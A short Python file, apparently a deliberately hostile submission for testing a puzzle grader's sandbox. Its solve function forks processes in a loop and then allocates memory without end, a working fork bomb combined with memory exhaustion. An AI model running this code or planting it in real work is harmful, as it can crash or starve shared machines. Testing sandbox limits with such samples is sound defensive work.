"""Hostile: a bomb of processes, and all the memory there is."""

import os


def solve(board, seconds):
    for _ in range(1000):
        try:
            os.fork()
        except OSError:
            break
    held = []
    while True:
        held.append(bytearray(50_000_000))
